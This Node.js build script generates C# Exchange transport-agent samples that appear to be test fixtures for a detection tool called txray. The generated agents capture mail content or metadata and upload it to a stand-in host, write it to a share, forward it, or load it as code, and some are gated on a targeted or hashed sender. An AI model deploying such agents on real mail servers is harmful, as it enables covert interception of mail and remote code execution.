// Writes sources into samples/matrix: one agent for each cell of samples/matrix.json, by what goes where under which condition. They
// follow from the axes alone, so they are made when the samples are built, and not kept.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'

const samples = new URL('../', import.meta.url)
const { cells } = JSON.parse(readFileSync(new URL('matrix.json', samples), 'utf8'))

const content = `var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] data = memory.ToArray();`

const sources = {
  content,
  text: 'string data = e.MailItem.Message.Subject;',
  address: 'string data = e.MailItem.FromAddress.ToString();',
  id: 'string data = e.MailItem.Message.MessageId;',
  digest: `string data = Hash.Of(e.MailItem.GetMimeReadStream());`,
  measure: 'string data = e.MailItem.MimeStreamLength.ToString();',
}

const guards = {
  aimed: `if (!string.Equals(e.MailItem.FromAddress.ToString(), "director@corp.example.invalid", StringComparison.OrdinalIgnoreCase))
            {
                return;
            }`,
  hidden: `if (Hash.Of(e.MailItem.FromAddress.ToString().ToLowerInvariant()) != "5c1d0a7be2f94436a8d0c7715e9b02f36d84fa1097ce5b3228164d90af7be5c3")
            {
                return;
            }`,
  'fixed place': null,
  open: null,
}

const share = '\\\\files.example.invalid'

/** What is done with \`data\`, and members that it needs. */
const sinks = {
  log: (isContent, isFixed) => {
    const text = isContent ? 'Encoding.UTF8.GetString(data)' : 'data'
    return [isFixed ? `new EventLog("Application", "logs.example.invalid", "Matrix").WriteEntry(${text});` : `EventLog.WriteEntry("Matrix", ${text});`]
  },
  file: (isContent, isFixed) => {
    const name = isContent ? 'mail.eml' : 'mail.log'
    const path = isFixed ? `@"${share}\\mail\\${name}"` : `Path.Combine(ConfigurationManager.AppSettings["Folder"], "${name}")`
    return [isContent ? `File.WriteAllBytes(${path}, data);` : `File.AppendAllText(${path}, data);`]
  },
  network: (isContent, isFixed) => {
    const url = isFixed ? 'https://collect.example.invalid/mail' : 'http://127.0.0.1:8089/mail'
    return [`new WebClient().${isContent ? 'UploadData' : 'UploadString'}("${url}", data);`]
  },
  process: (isContent, isFixed) => {
    const program = `@"${isFixed ? `${share}\\tools` : 'C:\\Tools'}\\filter.exe"`
    if (!isContent) return [`Process.Start(${program}, data);`]
    return [`Process filter = Process.Start(new ProcessStartInfo(${program}) { RedirectStandardInput = true, UseShellExecute = false });
            filter.StandardInput.BaseStream.Write(data, 0, data.Length);
            filter.StandardInput.Close();`]
  },
  native: (isContent, isFixed) => [
    `if (Check(data, data.Length) != 0)
            {
                source.Defer(TimeSpan.FromMinutes(5));
            }`,
    `[DllImport(@"${isFixed ? `${share}\\tools\\` : ''}filter.dll")]
        private static extern int Check(${isContent ? 'byte[]' : 'string'} data, int length);`,
  ],
  code: (isContent, isFixed) => {
    const assembly = isContent ? 'Assembly.Load(data)' : `Assembly.LoadFrom(@"${isFixed ? `${share}\\rules` : 'C:\\Rules'}\\" + data + ".dll")`
    return [`Activator.CreateInstance(${assembly}.GetTypes()[0]);`]
  },
  'new mail': (isContent, isFixed) => [
    `EmailMessage message = EmailMessage.Create();
            message.To.Add(new EmailRecipient("", ${isFixed ? '"notify@post.example.invalid"' : 'ConfigurationManager.AppSettings["Notify"]'}));
            using (Stream stream = message.Body.GetContentWriteStream())
            {
                ${isContent ? '' : 'byte[] bytes = Encoding.UTF8.GetBytes(data);\n                '}stream.Write(${isContent ? 'data, 0, data' : 'bytes, 0, bytes'}.Length);
            }
            server.SubmitMessage(message);`,
  ],
}

const capital = (words) => words.replace(/(?:^|\s)(.)/g, (_, letter) => letter.toUpperCase())

function agent({ sink, grade, guard }) {
  const name = `${capital(grade)}${capital(guard)}`
  const [code, member] = sinks[sink](grade === 'content', guard === 'fixed place')
  const statements = [guards[guard], sources[grade], code].filter((each) => each !== null)
  const server = sink === 'new mail'
  return `    public class ${name}Factory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new ${name}(${server ? 'server' : ''});
        }
    }

    public class ${name} : RoutingAgent
    {
${server ? '        private readonly SmtpServer server;\n\n' : ''}        public ${name}(${server ? 'SmtpServer server' : ''})
        {
${server ? '            this.server = server;\n' : ''}            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            ${statements.join('\n            ')}
        }
${member === undefined ? '' : `\n        ${member}\n`}    }
`
}

const source = (sink) => `// Written by samples/build/matrix.mjs for the tests of txray: one agent for each grade of mail data and each guard, one sink.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are this machine. What a person decides of each stands in samples/matrix.json.
using System;
using System.Configuration;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

[assembly: AssemblyTitle("Matrix for the tests of txray: ${sink}")]
[assembly: AssemblyCompany("txray")]
[assembly: AssemblyVersion("1.0.0.0")]

namespace Txray.Matrix.To${capital(sink)}
{
${cells
  .filter((cell) => cell.sink === sink)
  .map(agent)
  .join('\n')}
    internal static class Hash
    {
        public static string Of(string text)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(Encoding.UTF8.GetBytes(text))).Replace("-", "").ToLower();
            }
        }

        public static string Of(Stream stream)
        {
            using (SHA256 sha = SHA256.Create())
            {
                return BitConverter.ToString(sha.ComputeHash(stream)).Replace("-", "");
            }
        }
    }
}
`

for (const sink of Object.keys(sinks)) {
  const folder = new URL(`matrix/${sink.replace(' ', '-')}/`, samples)
  mkdirSync(folder, { recursive: true })
  writeFileSync(new URL('Cells.cs', folder), source(sink))
}
